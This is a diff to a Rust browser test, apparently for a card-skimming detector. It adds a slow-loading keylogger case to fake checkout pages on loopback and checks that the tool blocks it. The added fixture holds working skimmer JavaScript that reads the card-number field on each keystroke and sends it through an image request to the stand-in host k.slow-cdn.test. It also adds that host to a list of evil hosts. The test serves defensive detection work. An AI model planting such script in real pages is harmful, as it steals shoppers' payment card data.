@@ -2,7 +2,8 @@
 //! Chromium on loopback: a service worker and a shared worker that send the card from the
 //! worker (their scripts named only in JSON fetched at run time, so static discovery cannot
 //! see them), and fake payment iframes that appear late — one injected when the card field is
-//! focused, one drawn by a timer after the page has settled. Each must be caught with the
+//! focused, one drawn by a timer after the page has settled — and a keylogger from a slow
+//! server, which the visit must wait for before typing. Each must be caught with the
 //! right host, the workers' scripts must be `runtime` rows, and no collector may receive the
 //! canary.
 //!
@@ -12,7 +13,7 @@
 mod browser_support;
 mod common;
 
-use browser_support::{Recorder, canary_numbers, chromium_available, html, js, json};
+use browser_support::{Recorder, canary_numbers, chromium_available, html, js, json, slow};
 use serde_json::Value;
 
 /// A card form as a small shop renders it, then `extra`.
@@ -60,6 +61,8 @@ const EVIL_HOSTS: &[&str] = &[
     "pay.fake-frames.test",
     "collect.fake-frames.test",
     "late.fake-frames.test",
+    "tags.slow-cdn.test",
+    "k.slow-cdn.test",
 ];
 
 fn build(site: &Recorder, evil: &Recorder) {
@@ -125,6 +128,31 @@ fn build(site: &Recorder, evil: &Recorder) {
     );
 }
 
+/// A keylogger served by a slow server, loaded once the page has loaded: the visit must wait
+/// for the response (not just for a quiet moment after the request) before typing.
+fn slow_keylogger(site: &Recorder, evil: &Recorder) {
+    evil.set(
+        "/k.js",
+        slow(
+            js(format!(
+                "document.getElementById('cc-number').addEventListener('keyup',function(){{(new Image).src='{}?v='+this.value}});",
+                evil.url("k.slow-cdn.test", "/k")
+            )),
+            std::time::Duration::from_millis(1500),
+        ),
+    );
+    site.set(
+        "/checkout/slowscript",
+        html(checkout(
+            "Slow script",
+            &format!(
+                "<script>window.addEventListener('load',function(){{var s=document.createElement('script');s.src='{}';document.head.appendChild(s)}});</script>",
+                evil.url("tags.slow-cdn.test", "/k.js")
+            ),
+        )),
+    );
+}
+
 fn findings_for<'a>(report: &'a Value, page_suffix: &str) -> Vec<&'a Value> {
     report["findings"]
         .as_array()
@@ -155,7 +183,8 @@ fn worker_and_late_frame_skimmers_are_caught_and_nothing_leaves() {
     let site = browser_support::start("127.0.0.1");
     let evil = browser_support::start("127.0.0.1");
     build(&site, &evil);
-    let pages = ["sw", "shared", "focusframe", "lateframe"];
+    slow_keylogger(&site, &evil);
+    let pages = ["sw", "shared", "focusframe", "lateframe", "slowscript"];
     let mut args: Vec<String> = vec![
         "--browser".into(),
         "--allow-private".into(),
@@ -197,6 +226,11 @@ fn worker_and_late_frame_skimmers_are_caught_and_nothing_leaves() {
         (
             "lateframe",
             "late.fake-frames.test",
+            "blocked (carried the canary)",
+        ),
+        (
+            "slowscript",
+            "k.slow-cdn.test",
             "blocked (carried the canary)",
         ),
     ] {
